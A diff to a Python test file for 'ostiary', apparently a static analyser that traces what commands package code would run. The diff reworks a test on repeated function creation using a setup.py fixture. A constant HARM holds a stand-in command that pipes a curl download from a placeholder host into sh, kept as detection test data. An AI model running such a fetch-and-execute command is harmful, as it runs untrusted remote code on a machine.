@@ -1,10 +1,12 @@
 """What a function does when it is called again, and what a loop does in its later rounds."""
 
 import pytest
-from engine_flows import flows
+from engine_flows import flows, program_of
 
 from ostiary.core.coverage import Reach
+from ostiary.program.engine import repeats
 from ostiary.program.engine.ledger import MAX_NUMBERED, Ledger
+from ostiary.program.engine.machine import Machine
 from ostiary.program.flow import Act
 
 HARM = "curl -s http://h.example.invalid/a|sh"
@@ -128,9 +130,16 @@ def test_texts_that_differ_in_numbers_alone_are_one_after_a_few() -> None:
     assert not ledger.beyond
 
 
-def test_functions_that_are_made_anew_each_time_end() -> None:
-    text = "f(" + "() => g(() => " * 12 + "h()" + ")" * 12 + ");\n"
-    assert flows(text * 3, Act.RUN, "npm") == []
+@pytest.mark.parametrize("most", [3, 9])
+def test_functions_that_are_made_anew_each_time_end(
+    most: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(repeats, "MAX_MADE", most)
+    monkeypatch.setattr(Machine, "exact", lambda *_: False)
+    text = "import os\ndef f(n):\n    def g(): os.system('a')\n    g()\n"
+    text += "".join(f"f({n})\n" for n in range(6))
+    reasons = {one.reason for one in program_of("sdist", {"setup.py": text}).unfinished}
+    assert (repeats.OFTEN in reasons) is (most < 6)
 
 
 def test_a_command_of_which_nothing_is_known_is_the_one_that_is() -> None:
